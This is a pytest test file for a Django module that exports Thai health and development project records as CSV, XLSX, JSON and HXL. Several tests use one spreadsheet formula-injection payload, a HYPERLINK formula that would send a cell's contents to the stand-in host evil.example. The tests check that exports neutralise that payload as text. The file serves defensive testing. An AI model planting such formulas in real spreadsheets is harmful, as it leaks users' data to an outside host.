import csv
import datetime as dt
import io
import json
import zipfile
from decimal import Decimal

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from saan.conftest import org
from saan.projects.exports import COLUMNS, HXL_COLUMNS, UnknownFormat, export_response
from saan.projects.models import OrgRole, Project, TargetGroup, Theme
from saan.projects.services import BudgetLineData, ProjectData, TargetData, project_create

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")'


def make(cast, **overrides):
    values = dict(
        owner_id=org("สสส.").pk,
        ref_code="THF-68-0042",
        title="ส่งเสริมการดูแลผู้สูงวัยที่มีภาวะพึ่งพิงที่บ้าน ต.บ้านเป็ด",
        summary="อาสาสมัครบริบาลเยี่ยมบ้าน",
        status="ongoing",
        start_date=dt.date(2024, 11, 1),
        end_date=dt.date(2025, 9, 30),
        area_codes=["400115", "4002", "23"],
        theme_ids=[Theme.objects.get(slug="ageing").pk],
        targets=[
            TargetData(TargetGroup.objects.get(slug="age-60-plus").pk, 300, 120),
            TargetData(TargetGroup.objects.get(slug="dependent-elderly").pk, 45, 20),
        ],
        budget_lines=[
            BudgetLineData(2568, Decimal("1250000.50"), "committed", org("สปสช.").pk),
            BudgetLineData(2568, Decimal("80000"), "planned", note="สมทบจากท้องถิ่น"),
        ],
        roles=[
            (org("สปสช.").pk, OrgRole.FUNDING),
            (cast.community_council.pk, OrgRole.IMPLEMENTING),
        ],
    )
    values.update(overrides)
    return project_create(actor=cast.admin, data=ProjectData(**values))


def content(response) -> bytes:
    if isinstance(response, StreamingHttpResponse):
        return b"".join(response.streaming_content)
    return b"".join(response)


def read_csv(response) -> list[list[str]]:
    raw = content(response)
    assert raw.startswith("\ufeff".encode())  # Excel needs the BOM to read Thai
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def test_csv_has_thai_headers_and_one_row_per_project(cast):
    project = make(cast)
    response = export_response("csv", Project.objects.all(), filename="โครงการ")
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"].startswith("text/csv")
    assert "filename*=utf-8''" in response["Content-Disposition"]
    header, row = read_csv(response)
    assert header == [c.title for c in COLUMNS]
    values = dict(zip(header, row, strict=True))
    assert values["รหัสในระบบ"] == str(project.pk)
    assert values["หน่วยงานเจ้าของโครงการ"] == org("สสส.").name_th
    assert values["สถานะ"] == "กำลังดำเนินการ"
    assert values["วันเริ่ม"] == "2024-11-01" and values["ปีงบประมาณเริ่ม (พ.ศ.)"] == "2568"
    assert values["รหัสพื้นที่"] == "23; 400115; 4002"
    assert "ต.บ้านเป็ด อ.เมืองขอนแก่น จ.ขอนแก่น" in values["พื้นที่ดำเนินการ"]
    assert values["งบประมาณรวม (บาท)"] == "1330000.50"
    assert "ปีงบ 2568 1,250,000.50 บาท ผูกพันแล้ว จาก สปสช." in values["รายการงบประมาณ"]
    assert "สปสช. (หน่วยสนับสนุนงบประมาณ)" in values["องค์กรที่ร่วมโครงการ (บทบาท)"]
    assert "สสส. (หน่วยงานหลัก/รับผิดชอบ)" not in values["องค์กรที่ร่วมโครงการ (บทบาท)"]
    assert values["กลุ่มเป้าหมาย (เป้าหมาย/เข้าถึงแล้ว คน)"].startswith("ผู้สูงอายุ (60 ปีขึ้นไป) 300/120")


@pytest.mark.parametrize("fmt", ["csv", "hxl"])
def test_a_formula_in_a_title_is_written_as_text(cast, fmt):
    make(cast, title=EVIL, summary="+66 81 234 5678", ref_code="-1")
    rows = read_csv(export_response(fmt, Project.objects.all(), filename="x"))
    cells = [cell for row in rows for cell in row]
    assert "'" + EVIL in cells and EVIL not in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)


def test_xlsx_has_bold_thai_headers_numbers_dates_and_no_formulas(cast):
    project = make(cast, title=EVIL)
    response = export_response("xlsx", Project.objects.all(), filename="projects")
    assert response["Content-Disposition"].endswith('filename="projects.xlsx"')
    raw = content(response)
    with zipfile.ZipFile(io.BytesIO(raw)) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    ws = load_workbook(io.BytesIO(raw)).active
    header = [c.value for c in ws[1]]
    assert header == [c.title for c in COLUMNS] and all(c.font.bold for c in ws[1])
    row = {h: c for h, c in zip(header, ws[2], strict=True)}
    assert row["รหัสในระบบ"].value == project.pk
    assert row["ชื่อโครงการ"].value == "'" + EVIL and row["ชื่อโครงการ"].data_type == "s"
    assert row["งบประมาณรวม (บาท)"].value == pytest.approx(1330000.50)
    assert row["งบประมาณรวม (บาท)"].data_type == "n"
    assert row["วันเริ่ม"].value == dt.datetime(2024, 11, 1) and row["วันเริ่ม"].is_date
    assert row["ปีงบประมาณสิ้นสุด (พ.ศ.)"].value == 2568


def test_json_carries_the_whole_project(cast):
    project = make(cast)
    response = export_response("json", Project.objects.all(), filename="projects")
    data = json.loads(content(response))
    assert isinstance(data, list) and len(data) == 1
    p = data[0]
    assert p["id"] == project.pk and p["ref_code"] == "THF-68-0042"
    assert [a["code"] for a in p["areas"]] == ["23", "400115", "4002"]
    assert p["areas"][1]["name_th"] == "บ้านเป็ด" and p["areas"][1]["district"]["code"] == "4001"
    assert {(o["short_name"] or o["name_th"], o["role"]) for o in p["organisations"]} == {
        ("สสส.", "lead"),
        ("สปสช.", "funding"),
        ("สภาองค์กรชุมชนตำบลสาวะถี", "implementing"),
    }
    assert [t["slug"] for t in p["themes"]] == ["ageing"]
    assert {t["slug"]: t["planned"] for t in p["targets"]} == {
        "age-60-plus": 300,
        "dependent-elderly": 45,
    }
    assert [b["amount"] for b in p["budget_lines"]] == ["1250000.50", "80000.00"]
    assert p["start_date"] == "2024-11-01" and p["fiscal_years"] == [2568]


def test_json_of_nothing_is_an_empty_list(reference):
    assert json.loads(content(export_response("json", Project.objects.none(), filename="x"))) == []


def test_hxl_is_one_row_per_project_and_area_split_into_admin_levels(cast):
    project = make(cast)
    rows = read_csv(export_response("hxl", Project.objects.all(), filename="3w"))
    titles, tags, *data = rows
    assert titles == [t for t, _ in HXL_COLUMNS] and tags == [tag for _, tag in HXL_COLUMNS]
    assert {"#org+name", "#sector+name", "#adm1+code", "#adm3+name", "#date+start"} <= set(tags)
    assert {"#value+budget", "#status", "#targeted", "#activity+name"} <= set(tags)
    by_code = {}
    for row in data:
        r = dict(zip(tags, row, strict=True))
        by_code[r["#adm3+code"] or r["#adm2+code"] or r["#adm1+code"]] = r
    assert set(by_code) == {"23", "4002", "400115"}
    sub = by_code["400115"]
    assert (sub["#adm1+name"], sub["#adm2+name"], sub["#adm3+name"]) == (
        "ขอนแก่น",
        "เมืองขอนแก่น",
        "บ้านเป็ด",
    )
    assert (sub["#adm1+code"], sub["#adm2+code"]) == ("40", "4001")
    assert by_code["4002"]["#adm3+name"] == "" and by_code["4002"]["#adm1+code"] == "40"
    assert by_code["23"]["#adm1+name"] == "ตราด" and by_code["23"]["#adm2+code"] == ""
    assert sub["#activity+code"] == str(project.pk) and sub["#org+acronym"] == "สสส."
    assert sub["#org+funder+name"] == "สปสช." and sub["#org+impl+name"] == "สภาองค์กรชุมชนตำบลสาวะถี"
    assert sub["#date+start"] == "2024-11-01" and sub["#value+budget"] == "1330000.50"
    assert sub["#status"] == "กำลังดำเนินการ" and sub["#targeted"] == "300"  # not 345
    assert sub["#currency"] == "THB"


def test_queries_do_not_grow_with_the_number_of_projects(cast):
    make(cast)

    def count(fmt):
        with CaptureQueriesContext(connection) as ctx:
            content(export_response(fmt, Project.objects.all(), filename="x"))
        return len(ctx.captured_queries)

    one = {fmt: count(fmt) for fmt in ("csv", "xlsx", "json", "hxl")}
    for n in range(4):
        make(cast, ref_code=f"THF-68-{n}")
    assert {fmt: count(fmt) for fmt in ("csv", "xlsx", "json", "hxl")} == one


def test_unknown_format(reference):
    with pytest.raises(UnknownFormat):
        export_response("pdf", Project.objects.none(), filename="x")
